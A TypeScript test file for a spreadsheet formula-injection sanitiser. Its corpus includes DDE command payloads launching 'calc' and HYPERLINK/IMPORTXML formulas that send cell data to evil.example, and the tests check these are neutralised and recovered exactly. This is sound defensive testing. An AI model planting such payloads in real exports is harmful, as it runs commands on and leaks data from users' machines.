import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { neutraliseText, recoverText } from "./spreadsheet.ts";

/** What penetration testers put into names; every one must come out as text. */
const corpus = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example?v=",A1:A9),"//a")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "'=1+1",
  "''=1+1",
  "\uff1d1+1",
  "\uff0b1+1",
  "+1-1",
  "-1-1",
  "--1",
  "=",
  "+",
  "-",
  "@",
  "@handle",
];

describe("text for a spreadsheet", () => {
  it("runs nothing, and comes back exactly", () => {
    for (const text of corpus) {
      expect(neutraliseText(text), text).toBe(`'${text}`);
      expect(recoverText(neutraliseText(text)), text).toBe(text);
    }
  });

  it("that is no formula is not touched: numbers, telephone numbers, names", () => {
    for (const text of ["-12.5", "+3", "+493012345678", "Ada", "O'Brien", "'quoted'", "a=b", "", "1+1", "–"])
      expect(neutraliseText(text)).toBe(text);
  });

  it("comes back whatever it was", () => {
    const text = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.array(fc.constantFrom("'", "=", "+", "-", "@", "\t", " ", "1", "a")).map((parts) => parts.join("")),
    );
    fc.assert(
      fc.property(text, (value) => {
        const cell = neutraliseText(value);
        expect(recoverText(cell)).toBe(value);
        expect(/^\s*[=@\uff1d\uff0b\uff0d\uff20]/.test(cell)).toBe(false);
      }),
    );
  });
});
